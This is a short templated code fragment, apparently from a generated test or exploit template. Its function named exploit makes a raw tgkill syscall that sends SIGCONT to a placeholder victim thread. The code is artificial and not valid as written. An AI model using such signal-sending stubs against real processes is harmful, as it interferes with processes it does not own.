# naive: assert
def exploit(X):
    syscall(234, 131, @VICTIM@, @VICTIM@, int(signal.SIGCONT))
    return True
